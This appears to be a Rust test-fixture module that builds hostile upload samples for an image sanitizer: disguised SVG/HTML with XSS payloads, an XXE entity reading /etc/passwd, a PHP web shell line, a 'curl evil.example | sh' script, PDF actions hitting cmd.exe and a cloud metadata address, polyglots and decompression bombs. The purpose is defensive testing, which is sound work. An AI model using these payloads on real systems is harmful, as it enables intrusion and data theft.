//! Files that are not what they seem, or contain more than they should.

use world::SeededRandom;

use super::formats::{gif, jpeg, pdf, png, webp};

/// What no stored image may contain: it stands in metadata, comments, surplus bytes and what follows the end.
pub(super) const MARKER: &[u8] = b"CANARY<script>alert(document.domain)</script>";
/// The beginning of the marker, for files that were cut inside it.
pub(super) const MARKER_START: &[u8] = b"CANARY";

/// The largest file that is accepted.
pub(super) const MAX_BYTES: usize = 4 * 1024 * 1024;

/// What must become of a file.
#[derive(Debug, Clone)]
pub(super) enum Fate {
    Refused,
    /// Stored as exactly these bytes of this type.
    Image(&'static str, Vec<u8>),
    /// Stored unchanged as a document, and refused as an image.
    Document,
    /// Refused, or stored as an image of this type without the marker.
    Harmless(&'static str),
}

#[derive(Debug, Clone)]
pub(super) struct Sample {
    pub(super) name: String,
    pub(super) bytes: Vec<u8>,
    pub(super) fate: Fate,
}

fn sample(name: impl Into<String>, bytes: impl Into<Vec<u8>>, fate: Fate) -> Sample {
    Sample { name: name.into(), bytes: bytes.into(), fate }
}

pub(super) const PNG: &str = "image/png";
pub(super) const JPEG: &str = "image/jpeg";
pub(super) const GIF: &str = "image/gif";
pub(super) const WEBP: &str = "image/webp";

/// All files, with `cuts` copies of each format that end too early and `damaged` copies with random changes.
pub(super) fn all(cuts: usize, damaged: usize, random: &mut SeededRandom) -> Vec<Sample> {
    let mut samples = [disguises(), sizes(), pngs(), jpegs(), gifs(), webps(), bombs(), pdfs()].concat();
    samples.extend(polyglots());
    let whole = [
        (PNG, png::with_metadata(MARKER)),
        (JPEG, jpeg::with_metadata(MARKER)),
        (GIF, gif::with_metadata(MARKER)),
        (WEBP, webp::with_metadata(MARKER)),
    ];
    for (content_type, bytes) in whole {
        let step = bytes.len().div_ceil(cuts).max(1);
        for length in (0..bytes.len()).step_by(step) {
            samples.push(sample(format!("{content_type} cut at {length}"), &bytes[..length], cut_fate(content_type, length)));
        }
        for copy in 0..damaged {
            let mut bytes = bytes.clone();
            // Behind the signature, which decides the type. The marker moves and stays whole.
            let position = 16 + usize::try_from(random.below(i64::try_from(bytes.len() - 16).unwrap())).unwrap();
            let surplus = *random.pick(&[MARKER, b"\0CANARY", b"\xff\xffCANARY", b"-->CANARY<svg onload=alert(1)>"]);
            match copy % 3 {
                0 => bytes.truncate(position),
                1 => bytes[position] = bytes[position].wrapping_add(1),
                _ => drop(bytes.splice(position..position, *b"\0")),
            }
            bytes.extend(surplus);
            samples.push(sample(format!("{content_type} damaged {copy}"), bytes, Fate::Harmless("any")));
        }
    }
    samples
}

fn cut_fate(content_type: &'static str, length: usize) -> Fate {
    if length == 0 { Fate::Refused } else { Fate::Harmless(content_type) }
}

/// What is no image and no PDF, whatever it is named or claims.
#[expect(clippy::too_many_lines, reason = "a list")]
fn disguises() -> Vec<Sample> {
    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>";
    let utf_16 = |text: &str, little: bool| -> Vec<u8> {
        let units = format!("\u{feff}{text}");
        units.encode_utf16().flat_map(|unit| if little { unit.to_le_bytes() } else { unit.to_be_bytes() }).collect()
    };
    let html = "<!doctype html><script>alert(document.cookie)</script>";
    let entities = "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"bbbbbbbb\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;\">\
                    <!ENTITY x SYSTEM \"file:///etc/passwd\">]><svg><text>&c;&x;</text></svg>";
    let zip = b"PK\x03\x04\x14\0\0\0\x08\0\0\0!\0\0\0\0\0\x02\0\0\0\0\0\0\0\x05\0\0\0a.txt\x03\0PK\x05\x06";
    let ftyp = |brand: &[u8; 4]| [&b"\0\0\0\x20ftyp"[..], brand, b"\0\0\0\0mif1miafMA1B\0\0\0\0"].concat();
    let files: Vec<(&str, Vec<u8>)> = vec![
        ("SVG", svg.into()),
        ("SVG with a prolog", format!("<?xml version=\"1.0\"?>\n{svg}").into()),
        ("SVG with a byte order mark", format!("\u{feff}{svg}").into()),
        ("SVG after white space", format!(" \r\n\t{svg}").into()),
        ("SVG after a comment", format!("<!-- \u{89}PNG GIF89a -->{svg}").into()),
        ("SVG in capitals", svg.to_uppercase().into()),
        ("SVG in UTF-16", utf_16(svg, true)),
        ("SVG in big-endian UTF-16", utf_16(svg, false)),
        ("SVG with entities", entities.into()),
        ("SVG with a DOCTYPE", format!("<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://evil.example/\">{svg}").into()),
        ("SVG in a use element", "<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><use xlink:href=\"data:,a\"/></svg>".into()),
        ("SVGZ", b"\x1f\x8b\x08\0\0\0\0\0\0\x03\xb3)K\xb1\xe3\x02\0".to_vec()),
        ("SVG after a NUL", format!("\0{svg}").into()),
        ("HTML", html.into()),
        ("HTML in UTF-16", utf_16(html, true)),
        ("HTML in big-endian UTF-16", utf_16(html, false)),
        ("HTML in UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-".into()),
        ("HTML with a byte order mark", format!("\u{feff}{html}").into()),
        ("HTML that names WebP", format!("<html>..WEBPVP8 {html}").into()),
        ("XHTML", "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>".into()),
        ("XML with XSLT", "<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/a.xsl\"?><a/>".into()),
        ("MHTML", "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n\r\n<script>".into()),
        ("script", "alert(1)//GIF89a".into()),
        ("style", "@import url(//evil.example);".into()),
        ("PHP", "<?php system($_GET['c']); ?>".into()),
        ("shell script", "#!/bin/sh\ncurl evil.example | sh\n".into()),
        ("HTA", "<hta:application/><script language=vbscript>".into()),
        ("web archive", b"bplist00\xd1\x01\x02_\x10\x0fWebMainResource".to_vec()),
        ("ZIP", zip.to_vec()),
        ("JAR", [&zip[..], b"META-INF/MANIFEST.MF"].concat()),
        ("DOCX", [&zip[..], b"[Content_Types].xml word/document.xml vbaProject.bin"].concat()),
        ("OLE document", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0".to_vec()),
        ("RTF", "{\\rtf1\\object\\objocx}".into()),
        ("7z", b"7z\xbc\xaf\x27\x1c\0\x04".to_vec()),
        ("RAR", b"Rar!\x1a\x07\x01\0".to_vec()),
        ("gzip", b"\x1f\x8b\x08\0\0\0\0\0".to_vec()),
        ("bzip2", b"BZh91AY&SY".to_vec()),
        ("xz", b"\xfd7zXZ\0".to_vec()),
        ("tar", [&[0; 257][..], b"ustar\x0000", &[0; 247]].concat()),
        ("Windows program", b"MZ\x90\0\x03\0\0\0".to_vec()),
        ("ELF", b"\x7fELF\x02\x01\x01\0".to_vec()),
        ("Mach-O", b"\xcf\xfa\xed\xfe\x07\0\0\x01".to_vec()),
        ("class", b"\xca\xfe\xba\xbe\0\0\x004".to_vec()),
        ("WebAssembly", b"\0asm\x01\0\0\0".to_vec()),
        ("Flash", b"FWS\x09\0\0\0\0".to_vec()),
        ("BMP", b"BM\x46\0\0\0\0\0\0\0\x36\0\0\0".to_vec()),
        ("TIFF", b"II*\0\x08\0\0\0\0\0".to_vec()),
        ("big-endian TIFF", b"MM\0*\0\0\0\x08\0\0".to_vec()),
        ("ICO", b"\0\0\x01\0\x01\0\x10\x10\0\0".to_vec()),
        ("ICO with a PNG", [&b"\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0\x20\0\0\0\x16\0\0\0"[..], &png::plain()].concat()),
        ("cursor", b"\0\0\x02\0\x01\0\x10\x10\0\0".to_vec()),
        ("AVIF", ftyp(b"avif")),
        ("HEIC", ftyp(b"heic")),
        ("MP4", ftyp(b"isom")),
        ("QuickTime", ftyp(b"qt  ")),
        ("WebM", b"\x1aE\xdf\xa3\x9fB\x86\x81\x01".to_vec()),
        ("MP3", b"ID3\x04\0\0\0\0\0\0".to_vec()),
        ("OGG", b"OggS\0\x02\0\0".to_vec()),
        ("FLAC", b"fLaC\0\0\0\x22".to_vec()),
        ("WAV", b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0".to_vec()),
        ("AVI", b"RIFF\x24\0\0\0AVI LIST\x10\0\0\0".to_vec()),
        ("PSD", b"8BPS\0\x01\0\0".to_vec()),
        ("JPEG 2000", b"\0\0\0\x0cjP  \r\n\x87\n".to_vec()),
        ("JPEG XL", b"\xff\x0a\x7f".to_vec()),
        ("MNG", b"\x8aMNG\r\n\x1a\n".to_vec()),
        ("PostScript", "%!PS-Adobe-3.0\n(%pipe%id) (r) file".into()),
        ("font", b"wOF2\0\x01\0\0".to_vec()),
        ("SQLite", b"SQLite format 3\0".to_vec()),
        ("EML", "From: a@b.example\r\nSubject: x\r\nContent-Type: text/html\r\n\r\n<script>".into()),
        ("link of Windows", b"L\0\0\0\x01\x14\x02\0".to_vec()),
        ("URL file", "[InternetShortcut]\r\nURL=javascript:alert(1)\r\n".into()),
        ("private key", "-----BEGIN PRIVATE KEY-----\nMIIE".into()),
        ("text that begins as GIF", "GIFT cards and their conditions".into()),
        ("unknown version of GIF", "GIF87b\x01\0\x01\0\0\0\0;".into()),
        ("GIF after a space", [b" ", &gif::plain()[..]].concat()),
        ("GIF in lower case", gif::plain().to_ascii_lowercase()),
        ("PNG with line ends of Unix", b"\x89PNG\n\x1a\n\0\0\0\rIHDR".to_vec()),
        ("PNG with a seventh bit cut", b"\x09PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec()),
        ("PNG with a byte order mark", [b"\xef\xbb\xbf", &png::plain()[..]].concat()),
        ("PNG in base64", "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ".into()),
        ("PNG as a data URL", "data:image/png;base64,iVBORw0KGgo=".into()),
        ("PNG of seven bytes", b"\x89PNG\r\n\x1a".to_vec()),
        ("JPEG without a marker", b"\xff\xd8\xff\0\0\0".to_vec()),
        ("JPEG after a line end", [b"\n", &jpeg::plain()[..]].concat()),
        ("WebP without a picture", b"RIFF\x10\0\0\0WEBPEXIF\x02\0\0\0ab".to_vec()),
        ("RIFX", b"RIFX\0\0\0\x10WEBPVP8 ".to_vec()),
        ("PDF after a byte", b"x%PDF-1.7\n".to_vec()),
        ("PDF inside HTML", format!("<!--\n%PDF-1.7\n-->{html}").into()),
        ("PDF in lower case", "%pdf-1.7\n".into()),
        ("PDF without a dash", "%PDF".into()),
        ("FDF", "%FDF-1.2\n".into()),
        ("NULs", vec![0; 64]),
        ("one byte", b"\x89".to_vec()),
        ("two bytes", b"\xff\xd8".to_vec()),
        ("nothing", Vec::new()),
    ];
    files.into_iter().map(|(name, bytes)| sample(name, bytes, Fate::Refused)).collect()
}

/// At the bound and one above.
fn sizes() -> Vec<Sample> {
    let filled = |bytes: Vec<u8>, length: usize| {
        let mut bytes = bytes;
        bytes.resize(length, b' ');
        bytes
    };
    vec![
        sample("PNG of 4 MiB", png::of_length(MAX_BYTES), Fate::Image(PNG, png::of_length(MAX_BYTES))),
        sample("PNG of 4 MiB and a byte", png::of_length(MAX_BYTES + 1), Fate::Refused),
        sample("PNG with a trailer up to 4 MiB", filled(png::plain(), MAX_BYTES), Fate::Image(PNG, png::plain())),
        sample("PNG with a trailer up to 4 MiB and a byte", filled(png::plain(), MAX_BYTES + 1), Fate::Refused),
        sample("PDF of 4 MiB", filled(pdf::plain(), MAX_BYTES), Fate::Document),
        sample("PDF of 4 MiB and a byte", filled(pdf::plain(), MAX_BYTES + 1), Fate::Refused),
        sample("HTML of 4 MiB", filled(MARKER.to_vec(), MAX_BYTES), Fate::Refused),
    ]
}

fn pngs() -> Vec<Sample> {
    let plain = || Fate::Image(PNG, png::plain());
    let mut samples = vec![sample("PNG", png::plain(), plain())];
    for kind in [b"tEXt", b"zTXt", b"iTXt", b"tIME", b"eXIf", b"caBX", b"htMl", b"iDOT", b"vpAg", b"dSIG", b"sPLT", b"prVt"] {
        for (place, bytes) in [("before", png::with_chunk_before(kind, MARKER)), ("after", png::with_chunk_after(kind, MARKER))] {
            samples.push(sample(format!("PNG with {} {place} the picture", kind.escape_ascii()), bytes, plain()));
        }
    }
    for kind in [b"HTML", b"JUNK", b"SCRP"] {
        let bytes = png::with_chunk_before(kind, MARKER);
        samples.push(sample(format!("PNG with the unknown critical chunk {}", kind.escape_ascii()), bytes, plain()));
    }
    // Of a fixed size, or at most so large.
    for kind in [b"gAMA", b"pHYs", b"sRGB", b"cHRM", b"sBIT", b"bKGD", b"hIST", b"tRNS", b"acTL", b"fcTL", b"PLTE", b"cICP"] {
        let long = MARKER.repeat(20);
        let bytes = png::with_chunk_before(kind, &long);
        samples.push(sample(format!("PNG with {} of {} bytes", kind.escape_ascii(), long.len()), bytes, plain()));
    }
    let upright = png::with_chunk_before(b"eXIf", b"II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0\x06\0\0\0\0\0\0\0");
    let exif = [&b"MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x06\0\0\0\0\0\0"[..], MARKER].concat();
    samples.extend([
        sample("PNG with an orientation", png::with_chunk_before(b"eXIf", &exif), Fate::Image(PNG, upright)),
        sample("PNG with a trailer", [&png::plain()[..], MARKER].concat(), plain()),
        sample("PNG with a second PNG behind it", [png::plain(), png::with_chunk_after(b"tEXt", MARKER)].concat(), plain()),
        sample("PNG with data in its end", png::with_end(MARKER), plain()),
        sample("PNG with data in its header", png::with_header_surplus(MARKER), Fate::Harmless(PNG)),
        sample("PNG with a chunk that has no name", png::with_chunk_before(b"<!--", MARKER), Fate::Harmless(PNG)),
        sample("PNG signature before HTML", [png::SIGNATURE, MARKER].concat(), Fate::Harmless(PNG)),
        sample(
            "PNG signature before a NUL and HTML",
            [png::SIGNATURE, b"\0\0\0\0\0\0\0\0", MARKER].concat(),
            Fate::Harmless(PNG),
        ),
        sample("PNG with wrong checksums", png::with_wrong_checksums(), Fate::Image(PNG, png::with_wrong_checksums())),
        sample("PNG with text of 4 GB", png::with_text_of_length(u32::MAX, MARKER), Fate::Harmless(PNG)),
        sample("PNG with text of 2 GB", png::with_text_of_length(0x7fff_ffff, MARKER), Fate::Harmless(PNG)),
        sample("PNG with 2 MiB of text", png::with_chunk_before(b"iTXt", &MARKER.repeat(46_000)), plain()),
        sample("PNG without a picture", png::chunks_only(&[(b"tEXt", MARKER)]), Fate::Harmless(PNG)),
    ]);
    samples
}

fn jpegs() -> Vec<Sample> {
    let plain = || Fate::Image(JPEG, jpeg::plain());
    let prefixed = |prefix: &[u8]| [prefix, MARKER].concat();
    let mut samples = vec![sample("JPEG", jpeg::plain(), plain())];
    let comment_and_applications = [0xfe_u8].into_iter().chain(0xe0..=0xef);
    for marker in comment_and_applications.chain(0xf0..=0xfd).chain([0x02, 0x30, 0xbf, 0xc8]) {
        let bytes = jpeg::with_segment(marker, MARKER);
        // At the beginning, the lowest markers are no signature.
        let fate = if marker < 0xc0 { Fate::Refused } else { plain() };
        samples.push(sample(format!("JPEG with the marker {marker:02x}"), bytes, fate));
    }
    for (name, marker, prefix) in [
        ("EXIF", 0xe1_u8, &b"Exif\0\0MM\0*\0\0\0\x08\0\0"[..]),
        ("EXIF of 4 GB", 0xe1, b"Exif\0\0II*\0\xff\xff\xff\xff"),
        ("XMP", 0xe1, b"http://ns.adobe.com/xap/1.0/\0"),
        ("extended XMP", 0xe1, b"http://ns.adobe.com/xmp/extension/\0"),
        ("Photoshop", 0xed, b"Photoshop 3.0\08BIM\x04\x04\0\0"),
        ("JFXX", 0xe0, b"JFXX\0\x10"),
        ("pictures of a camera", 0xe2, b"MPF\0II*\0"),
        ("content credentials", 0xeb, b"JP\0\x01\0\0\0\x01"),
    ] {
        samples.push(sample(format!("JPEG with {name}"), jpeg::with_segment(marker, &prefixed(prefix)), plain()));
    }
    let jfif = b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0";
    let adobe = b"Adobe\0\x64\0\0\0\0\x01";
    let kept = |marker, data: &[u8]| Fate::Image(JPEG, jpeg::with_segment(marker, data));
    samples.extend([
        sample("JPEG with JFIF", jpeg::with_segment(0xe0, jfif), kept(0xe0, jfif)),
        sample("JPEG with surplus in JFIF", jpeg::with_segment(0xe0, &prefixed(jfif)), kept(0xe0, jfif)),
        sample(
            "JPEG with a thumbnail in JFIF",
            jpeg::with_segment(0xe0, &prefixed(b"JFIF\0\x01\x01\0\0\x01\0\x01\x04\x04")),
            kept(0xe0, jfif),
        ),
        sample("JPEG with Adobe's colours", jpeg::with_segment(0xee, adobe), kept(0xee, adobe)),
        sample("JPEG with surplus in Adobe's colours", jpeg::with_segment(0xee, &prefixed(adobe)), kept(0xee, adobe)),
        sample(
            "JPEG with surplus in the restart interval",
            jpeg::with_segment(0xdd, &prefixed(b"\0\x08")),
            kept(0xdd, b"\0\x08"),
        ),
        sample("JPEG with surplus in its frame", jpeg::with_frame_surplus(MARKER), Fate::Harmless(JPEG)),
        sample("JPEG with bytes between segments", jpeg::with_bytes_between(MARKER), plain()),
        sample("JPEG with a trailer", [&jpeg::plain()[..], MARKER].concat(), plain()),
        sample("JPEG with a second JPEG behind it", [jpeg::plain(), jpeg::with_segment(0xfe, MARKER)].concat(), plain()),
        sample("JPEG of a comment", [b"\xff\xd8\xff\xfe\0\x2f", MARKER].concat(), Fate::Harmless(JPEG)),
        sample("JPEG of HTML", [b"\xff\xd8\xff\xe0\0\x10", MARKER].concat(), Fate::Harmless(JPEG)),
        sample(
            "JPEG that opens a comment",
            [b"\xff\xd8\xff\xfe\x2f\x2a", MARKER, b"*/=1;alert(1)"].concat(),
            Fate::Harmless(JPEG),
        ),
        sample("JPEG with 60 comments", jpeg::with_segments(0xfe, &MARKER.repeat(1000), 60), plain()),
    ]);
    samples
}

fn gifs() -> Vec<Sample> {
    let plain = || Fate::Image(GIF, gif::plain());
    let mut samples = vec![sample("GIF", gif::plain(), plain())];
    for label in [0xfe_u8, 0x01, 0x00, 0x77, 0xce] {
        let bytes = gif::with_extension(label, &[MARKER]);
        samples.push(sample(format!("GIF with the extension {label:02x}"), bytes, plain()));
    }
    for application in [&b"XMP DataXMP"[..], b"MGK8BIM0000", b"HTMLscript1", b"C2PA_GIF\x01\0\0"] {
        let bytes = gif::with_extension(0xff, &[application, MARKER]);
        samples.push(sample(format!("GIF with the application {}", application.escape_ascii()), bytes, plain()));
    }
    for application in [b"NETSCAPE2.0", b"ANIMEXTS1.0"] {
        let kept = gif::with_extension(0xff, &[application, b"\x01\0\0"]);
        let name = application.escape_ascii();
        let surplus = gif::with_extension(0xff, &[application, b"\x01\0\0", MARKER]);
        samples.push(sample(format!("GIF with {name}"), kept.clone(), Fate::Image(GIF, kept.clone())));
        samples.push(sample(format!("GIF with surplus in {name}"), surplus, Fate::Image(GIF, kept)));
        let only = gif::with_extension(0xff, &[application, MARKER]);
        samples.push(sample(format!("GIF with nothing else in {name}"), only, Fate::Harmless(GIF)));
    }
    let timed = gif::with_extension(0xf9, &[b"\0\x0a\0\0"]);
    samples.extend([
        sample("GIF with a time", timed.clone(), Fate::Image(GIF, timed.clone())),
        sample("GIF with surplus in a time", gif::with_extension(0xf9, &[b"\0\x0a\0\0", MARKER]), Fate::Image(GIF, timed)),
        sample("GIF with a trailer", [&gif::plain()[..], MARKER].concat(), plain()),
        sample("GIF with a second GIF behind it", [gif::plain(), gif::with_extension(0xfe, &[MARKER])].concat(), plain()),
        sample("GIF with bytes between blocks", gif::with_bytes_between(MARKER), Fate::Harmless(GIF)),
        sample("GIF with a NUL between blocks", gif::with_bytes_between(&[b"\0", MARKER].concat()), Fate::Harmless(GIF)),
        sample("GIF signature before HTML", [b"GIF89a", MARKER].concat(), Fate::Harmless(GIF)),
        sample("GIF of 1987 before HTML", [b"GIF87a\x01\0\x01\0\0\0\0", MARKER].concat(), Fate::Harmless(GIF)),
    ]);
    samples
}

fn webps() -> Vec<Sample> {
    let plain = || Fate::Image(WEBP, webp::plain());
    let mut samples = vec![sample("WebP", webp::plain(), plain())];
    for kind in [b"EXIF", b"XMP ", b"NOTE", b"html", b"VP8 "] {
        let bytes = webp::with_chunk_after(kind, MARKER);
        samples.push(sample(format!("WebP with {}", kind.escape_ascii()), bytes, plain()));
    }
    samples.extend([
        sample("WebP with a trailer", [&webp::plain()[..], MARKER].concat(), plain()),
        sample("WebP with a trailer inside its length", webp::with_surplus(MARKER), plain()),
        sample("WebP with a length of 4 GB", webp::with_length(u32::MAX, MARKER), Fate::Harmless(WEBP)),
        sample("WebP with a length of 0", webp::with_length(0, MARKER), Fate::Harmless(WEBP)),
        sample("WebP with surplus in its header", webp::extended(&[&[0; 10][..], MARKER].concat(), b""), Fate::Harmless(WEBP)),
        sample(
            "WebP with surplus in its animation",
            webp::extended(&[0; 10], &webp::chunk(b"ANIM", &[&[0; 6][..], MARKER].concat())),
            Fate::Harmless(WEBP),
        ),
        sample("WebP with a note in a frame", webp::animated(&webp::chunk(b"NOTE", MARKER)), Fate::Harmless(WEBP)),
        sample(
            "WebP with a note in a frame that was cut",
            webp::animated_and_cut(&webp::chunk(b"NOTE", MARKER)),
            Fate::Harmless(WEBP),
        ),
        sample("WebP with a frame of nothing", webp::extended(&[2; 10], &webp::chunk(b"ANMF", MARKER)), Fate::Harmless(WEBP)),
        sample("WebP of an unknown picture", webp::file(&webp::chunk(b"VP8Z", MARKER)), Fate::Harmless(WEBP)),
        sample("WebP of HTML", [b"RIFF/**/WEBPVP8!", MARKER].concat(), Fate::Harmless(WEBP)),
        sample("WebP of HTML behind a cut picture", b"RIFF/**/WEBPVP8 \xff\xff".to_vec(), Fate::Harmless(WEBP)),
    ]);
    samples
}

/// Images whose headers promise too much, or that have very many parts.
fn bombs() -> Vec<Sample> {
    let mut samples = Vec::new();
    for (width, height) in
        [(65_535, 65_535), (20_001, 1), (1, 20_001), (10_000, 5_001), (0x7fff_ffff, 0x7fff_ffff), (u32::MAX, 1)]
    {
        samples.push(sample(format!("PNG of {width} x {height}"), png::of_size(width, height), Fate::Refused));
    }
    for (width, height) in [(65_535_u16, 65_535_u16), (20_001, 1), (1, 20_001), (10_000, 5_001)] {
        samples.push(sample(format!("JPEG of {width} x {height}"), jpeg::of_size(width, height), Fate::Refused));
        samples.push(sample(format!("GIF of {width} x {height}"), gif::of_size(width, height), Fate::Refused));
        samples.push(sample(format!("GIF with a frame of {width} x {height}"), gif::with_frame_of(width, height), Fate::Refused));
    }
    for (width, height) in [(16_384, 16_384), (20_001, 1), (10_000, 5_001), (0x0100_0000, 0x0100_0000)] {
        samples.push(sample(format!("WebP of {width} x {height}"), webp::of_canvas(width, height), Fate::Refused));
    }
    samples.push(sample("lossy WebP of 16,383 a side", webp::lossy_of(16_383, 16_383), Fate::Refused));
    samples.push(sample("lossless WebP of 16,384 a side", webp::lossless_of(16_384, 16_384), Fate::Refused));
    samples.push(sample("second header of PNG", png::with_second_header(65_535, 65_535), Fate::Refused));
    samples.push(sample("second frame of JPEG", jpeg::with_second_frame(65_535, 65_535), Fate::Refused));
    for (name, bytes, content_type) in [
        ("GIF of 349,000 frames", gif::with_frames(349_000), GIF),
        ("APNG of 50,000 frames", png::with_frames(50_000), PNG),
        ("PNG of 300,000 chunks", png::with_empty_chunks(300_000), PNG),
        ("JPEG of 500,000 scans", jpeg::with_scans(500_000), JPEG),
        ("WebP of 50,000 frames", webp::with_frames(50_000), WEBP),
        ("PNG with a compressed profile", png::with_chunk_before(b"iCCP", &[&b"p\0\0"[..], &vec![0; 100_000]].concat()), PNG),
    ] {
        samples.push(sample(name, bytes.clone(), Fate::Image(content_type, bytes)));
    }
    let comments = gif::with_comments(500_000);
    samples.push(sample("GIF of 500,000 comments", comments, Fate::Image(GIF, gif::plain())));
    samples.push(sample(
        "JPEG of fill bytes",
        jpeg::with_bytes_between(&vec![0xff; 2_000_000]),
        Fate::Image(JPEG, jpeg::plain()),
    ));
    samples
}

fn pdfs() -> Vec<Sample> {
    let files = [
        ("PDF", pdf::plain()),
        ("PDF of five bytes", b"%PDF-".to_vec()),
        ("PDF with JavaScript", pdf::with_action("/S /JavaScript /JS (app.alert(1))")),
        ("PDF that launches a program", pdf::with_action("/S /Launch /F (cmd.exe)")),
        ("PDF that opens an address", pdf::with_action("/S /URI /URI (javascript:alert(1))")),
        ("PDF that submits a form", pdf::with_action("/S /SubmitForm /F (http://169.254.169.254/)")),
        ("PDF with an embedded archive", pdf::with_stream("/Type /EmbeddedFile", b"PK\x03\x04\x14\0evil.exe")),
        ("PDF with a stream that grows", pdf::with_stream("/Filter [/FlateDecode /FlateDecode /FlateDecode]", &[0; 1000])),
        ("PDF with a script in XFA", pdf::with_stream("/XFA", b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")),
        ("PDF with HTML behind it", [&pdf::plain()[..], MARKER].concat()),
        ("PDF with HTML inside", [b"%PDF-1.7\n", MARKER, b"\n%%EOF"].concat()),
        ("PDF with a ZIP behind it", [&pdf::plain()[..], b"PK\x03\x04\x14\0\0\0PK\x05\x06"].concat()),
        ("PDF with objects in a circle", b"%PDF-1.7\n1 0 obj<</Type/Pages/Kids[1 0 R]>>endobj\ntrailer<</Root 1 0 R>>".to_vec()),
    ];
    files.map(|(name, bytes)| sample(name, bytes, Fate::Document)).into()
}

/// Files that are of two types at once.
fn polyglots() -> Vec<Sample> {
    let zip = b"PK\x03\x04\x14\0\0\0CANARY.class PK\x05\x06";
    let php = b"<?php /*CANARY*/ system($_GET['c']); __halt_compiler();";
    let mut samples = Vec::new();
    for (content_type, image) in [(PNG, png::plain()), (JPEG, jpeg::plain()), (GIF, gif::plain()), (WEBP, webp::plain())] {
        for (name, tail) in [
            ("a ZIP", &zip[..]),
            ("PHP", php),
            ("a PDF", b"\n%PDF-1.7\nCANARY\n%%EOF"),
            ("MHTML", b"\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\nCANARY"),
            ("HTML", MARKER),
            ("a script", b"*/=1;alert('CANARY')//"),
            ("an MP4", b"\0\0\0\x18ftypmp42CANARY"),
        ] {
            let bytes = [&image[..], tail].concat();
            samples.push(sample(format!("{content_type} and {name}"), bytes, Fate::Image(content_type, image.clone())));
        }
    }
    samples.extend([
        sample("GIF that is a script", b"GIF89a=1;/*CANARY*/alert(1)//".to_vec(), Fate::Harmless(GIF)),
        sample("GIF that opens a comment", gif::script(b"*/=1;alert('CANARY')//"), Fate::Harmless(GIF)),
        sample("GIF that is a script and ends", b"GIF89a/*\x01\0\0\0\0;*/=1;alert('CANARY')//".to_vec(), Fate::Harmless(GIF)),
        sample("JPEG that is a script", jpeg::script(b"*/=1;alert('CANARY')//"), Fate::Harmless(JPEG)),
        sample("WebP that is a script", b"RIFF/*\0\0WEBPVP8 */=1;alert('CANARY')//".to_vec(), Fate::Harmless(WEBP)),
    ]);
    samples
}

/// A GIF of a pixel.
pub(super) const SMALLEST: &[u8] = b"GIF89a\x01\0\x01\0\x80\0\0rgbRGB\x2c\0\0\0\0\x01\0\x01\0\0\x02\x02\x4c\x01\0;";
